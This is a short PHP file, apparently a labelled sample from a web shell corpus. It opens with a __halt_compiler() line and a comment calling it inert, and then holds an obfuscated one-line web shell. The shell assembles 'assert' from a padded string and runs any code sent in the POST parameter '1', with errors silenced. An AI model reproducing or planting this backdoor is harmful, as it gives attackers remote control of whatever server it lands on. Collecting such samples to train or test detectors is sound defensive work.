<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$jx=str_replace('x','','axsxsxexrxt');
@$jx($_POST['1']);
